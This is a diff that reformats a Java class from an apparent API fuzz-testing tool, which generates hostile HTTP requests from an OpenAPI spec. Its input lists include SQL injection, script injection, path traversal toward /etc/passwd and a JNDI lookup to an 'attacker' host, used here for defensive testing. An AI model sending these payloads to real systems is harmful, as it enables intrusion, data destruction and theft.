@@ -7,7 +7,6 @@ import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.chatcontinuity.hostile.OpenApiOperations.Operation;
 import io.chatcontinuity.hostile.OpenApiOperations.Parameter;
-
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
@@ -25,46 +24,166 @@ import java.util.Random;
 final class HostileRequests {
 
     /** What a request carries; {@code credential} names a credential to be looked up when it is sent. */
-    record Request(Operation operation, String path, Map<String, String> headers, Credential credential,
-                   String contentType, byte[] body, boolean chunked, String label) {
-    }
+    record Request(
+            Operation operation,
+            String path,
+            Map<String, String> headers,
+            Credential credential,
+            String contentType,
+            byte[] body,
+            boolean chunked,
+            String label) {}
 
     /** Which Authorization a request carries: the operation's own, one of the hostile ones, or none. */
-    record Credential(boolean valid, String hostile, int slot) {
-    }
+    record Credential(boolean valid, String hostile, int slot) {}
 
     private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
     private static final ObjectMapper JSON = new ObjectMapper();
 
     /** Strings no field should take as they are, and some it should take exactly as they are. */
-    static final List<String> HOSTILE_STRINGS = List.of("", " ", "\u0000", "a\u0000b", "\ud800", "a\udbffb",
-            "\udc00x", "x\ud83d", "\u202eevil\u202c", "\u200b\u200d\u2066x", "😀🎉👨‍👩‍👧", "\u0001\u001f\u007f",
-            "\u0085", "\ufeff", "\uffff", "line\nbreak\ttab", "\r\n", "e\u0301\u0302\u0303", "ｆｕｌｌｗｉｄｔｈ",
-            "' OR '1'='1", "'; DROP TABLE apps; --", "<script>alert(1)</script>", "%00", "../../etc/passwd",
-            "${jndi:ldap://attacker/a}", "{{7*7}}", "\\u0000", "-1", "0", "1e309", "NaN", "true", "null",
-            "x".repeat(4_001), "y".repeat(20_000), "🎉".repeat(2_001));
+    static final List<String> HOSTILE_STRINGS = List.of(
+            "",
+            " ",
+            "\u0000",
+            "a\u0000b",
+            "\ud800",
+            "a\udbffb",
+            "\udc00x",
+            "x\ud83d",
+            "\u202eevil\u202c",
+            "\u200b\u200d\u2066x",
+            "😀🎉👨‍👩‍👧",
+            "\u0001\u001f\u007f",
+            "\u0085",
+            "\ufeff",
+            "\uffff",
+            "line\nbreak\ttab",
+            "\r\n",
+            "e\u0301\u0302\u0303",
+            "ｆｕｌｌｗｉｄｔｈ",
+            "' OR '1'='1",
+            "'; DROP TABLE apps; --",
+            "<script>alert(1)</script>",
+            "%00",
+            "../../etc/passwd",
+            "${jndi:ldap://attacker/a}",
+            "{{7*7}}",
+            "\\u0000",
+            "-1",
+            "0",
+            "1e309",
+            "NaN",
+            "true",
+            "null",
+            "x".repeat(4_001),
+            "y".repeat(20_000),
+            "🎉".repeat(2_001));
 
     /** Ids that name nothing, or something not the caller's. */
-    private static final List<String> HOSTILE_IDS = List.of("\u0000", "a\u0000", "%00", "\ud800", "app_\udbff",
-            "\u202eppa", "😀", "..", ".", " ", "a b", "'", "app_AAAAAAAAAAAAAAAA", "app_", "conv_AAAAAAAAAAAAAAA!",
-            "key_" + "A".repeat(16), "x".repeat(300), "z".repeat(3_000), "\u0085", "\uffff", "%2F", "a/b", "%ff",
-            "\t", "null", "undefined", "-1", "app_AAAAAAAAAAAAAAAA\u0000");
+    private static final List<String> HOSTILE_IDS = List.of(
+            "\u0000",
+            "a\u0000",
+            "%00",
+            "\ud800",
+            "app_\udbff",
+            "\u202eppa",
+            "😀",
+            "..",
+            ".",
+            " ",
+            "a b",
+            "'",
+            "app_AAAAAAAAAAAAAAAA",
+            "app_",
+            "conv_AAAAAAAAAAAAAAA!",
+            "key_" + "A".repeat(16),
+            "x".repeat(300),
+            "z".repeat(3_000),
+            "\u0085",
+            "\uffff",
+            "%2F",
+            "a/b",
+            "%ff",
+            "\t",
+            "null",
+            "undefined",
+            "-1",
+            "app_AAAAAAAAAAAAAAAA\u0000");
 
-    private static final List<String> HOSTILE_QUERY_VALUES = List.of("", "0", "-1", "101", "100", "1", "50",
-            "99999999999999999999", "1e3", " 1", "abc", "\u0000", "\ud800", "x".repeat(3_000), "AAAA", "Y29udl9B",
-            "Y29udl9BQUFBQUFBQUFBQUFBQUFBLzk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5", "%", "=", "&", "null");
+    private static final List<String> HOSTILE_QUERY_VALUES = List.of(
+            "",
+            "0",
+            "-1",
+            "101",
+            "100",
+            "1",
+            "50",
+            "99999999999999999999",
+            "1e3",
+            " 1",
+            "abc",
+            "\u0000",
+            "\ud800",
+            "x".repeat(3_000),
+            "AAAA",
+            "Y29udl9B",
+            "Y29udl9BQUFBQUFBQUFBQUFBQUFBLzk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5",
+            "%",
+            "=",
+            "&",
+            "null");
 
-    private static final List<String> HOSTILE_HEADER_VALUES = List.of("", "-1", "0", "abc", "*", "W/\"x\"",
-            "99999999999999999999", "x".repeat(8_000), "Bearer", "\"\"", "null", "1.5", " ");
+    private static final List<String> HOSTILE_HEADER_VALUES = List.of(
+            "",
+            "-1",
+            "0",
+            "abc",
+            "*",
+            "W/\"x\"",
+            "99999999999999999999",
+            "x".repeat(8_000),
+            "Bearer",
+            "\"\"",
+            "null",
+            "1.5",
+            " ");
 
-    private static final List<String> WRONG_CONTENT_TYPES = List.of("text/plain", "application/xml",
-            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
-            "application/octet-stream", "*/*", "application/json-patch+json", "text/html; charset=\u00ff");
+    private static final List<String> WRONG_CONTENT_TYPES = List.of(
+            "text/plain",
+            "application/xml",
+            "application/x-www-form-urlencoded",
+            "multipart/form-data; boundary=x",
+            "application/json; charset=utf-16",
+            "application/octet-stream",
+            "*/*",
+            "application/json-patch+json",
+            "text/html; charset=\u00ff");
 
-    private static final List<String> MALFORMED_JSON = List.of("{", "[", "}", "{\"a\":}", "nul", "{\"a\":1,}",
-            "\ufeff{}", "{\"a\":1}{\"b\":2}", "{'a':1}", "{\"a\":\"\\ud800\"}", "{\"a\":\"\\u0000\"}", "[1,2,]",
-            "{\"a\" 1}", "\"just a string\"", "42", "true", "null", "[]", "{\"\":\"\"}", "{\"a\":\"\\x41\"}",
-            "{\"a\":01}", "{\"a\":1e99999}", "{\"a\":-}", "{\"a\":\"\u0001\"}");
+    private static final List<String> MALFORMED_JSON = List.of(
+            "{",
+            "[",
+            "}",
+            "{\"a\":}",
+            "nul",
+            "{\"a\":1,}",
+            "\ufeff{}",
+            "{\"a\":1}{\"b\":2}",
+            "{'a':1}",
+            "{\"a\":\"\\ud800\"}",
+            "{\"a\":\"\\u0000\"}",
+            "[1,2,]",
+            "{\"a\" 1}",
+            "\"just a string\"",
+            "42",
+            "true",
+            "null",
+            "[]",
+            "{\"\":\"\"}",
+            "{\"a\":\"\\x41\"}",
+            "{\"a\":01}",
+            "{\"a\":1e99999}",
+            "{\"a\":-}",
+            "{\"a\":\"\u0001\"}");
 
     private final Random random;
     private final JsonNode document;
@@ -73,8 +192,13 @@ final class HostileRequests {
     private final List<String> hostileCredentials;
     private final List<String> origins;
 
-    HostileRequests(long seed, JsonNode document, Map<String, List<String>> knownValues,
-                    Map<String, JsonNode> examples, List<String> hostileCredentials, List<String> origins) {
+    HostileRequests(
+            long seed,
+            JsonNode document,
+            Map<String, List<String>> knownValues,
+            Map<String, JsonNode> examples,
+            List<String> hostileCredentials,
+            List<String> origins) {
         this.random = new Random(seed);
         this.document = document;
         this.knownValues = knownValues;
@@ -125,12 +249,11 @@ final class HostileRequests {
                 label.add("chunked");
             }
         }
-        return new Request(operation, path + query, headers, credential, contentType, body, chunked,
-                String.join(", ", label));
+        return new Request(
+                operation, path + query, headers, credential, contentType, body, chunked, String.join(", ", label));
     }
 
-    private record Body(byte[] bytes, String contentType) {
-    }
+    private record Body(byte[] bytes, String contentType) {}
 
     private Body body(Operation operation, List<String> label) {
         JsonNode example = examples.getOrDefault(operation.key(), NODES.objectNode());
@@ -262,7 +385,8 @@ final class HostileRequests {
         switch (type) {
             case "string":
                 if (resolved.has("enum") && chance(0.7)) {
-                    return resolved.get("enum").get(random.nextInt(resolved.get("enum").size()));
+                    return resolved.get("enum")
+                            .get(random.nextInt(resolved.get("enum").size()));
                 }
                 return NODES.textNode(chance(0.5) ? randomToken() : pick(HOSTILE_STRINGS));
             case "integer":
@@ -279,8 +403,9 @@ final class HostileRequests {
                 return array;
             default:
                 ObjectNode object = NODES.objectNode();
-                for (Iterator<Map.Entry<String, JsonNode>> properties = resolved.path("properties").fields();
-                     properties.hasNext(); ) {
+                for (Iterator<Map.Entry<String, JsonNode>> properties =
+                                resolved.path("properties").fields();
+                        properties.hasNext(); ) {
                     Map.Entry<String, JsonNode> property = properties.next();
                     if (chance(0.85)) {
                         object.set(property.getKey(), fromSchema(property.getValue(), depth + 1));
@@ -357,12 +482,13 @@ final class HostileRequests {
 
     /** The example (or an empty object) with its first field written twice, the second time with another value. */
     private String duplicateKeys(JsonNode example) {
-        ObjectNode object = example.isObject() && example.size() > 0 ? (ObjectNode) example : NODES.objectNode()
-                .put("a", 1);
+        ObjectNode object = example.isObject() && example.size() > 0
+                ? (ObjectNode) example
+                : NODES.objectNode().put("a", 1);
         String first = object.fieldNames().next();
         String json = new String(json(object).bytes(), StandardCharsets.UTF_8);
-        return json.substring(0, json.length() - 1) + "," + JSON.valueToTree(first) + ":" + JSON.valueToTree(
-                pick(HOSTILE_STRINGS)) + "}";
+        return json.substring(0, json.length() - 1) + "," + JSON.valueToTree(first) + ":"
+                + JSON.valueToTree(pick(HOSTILE_STRINGS)) + "}";
     }
 
     private Body json(JsonNode node) {
@@ -415,7 +541,8 @@ final class HostileRequests {
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
         for (int i = 0; i < value.length(); i++) {
             char c = value.charAt(i);
-            boolean pair = Character.isHighSurrogate(c) && i + 1 < value.length()
+            boolean pair = Character.isHighSurrogate(c)
+                    && i + 1 < value.length()
                     && Character.isLowSurrogate(value.charAt(i + 1));
             if (pair) {
                 bytes.writeBytes(value.substring(i, i + 2).getBytes(StandardCharsets.UTF_8));
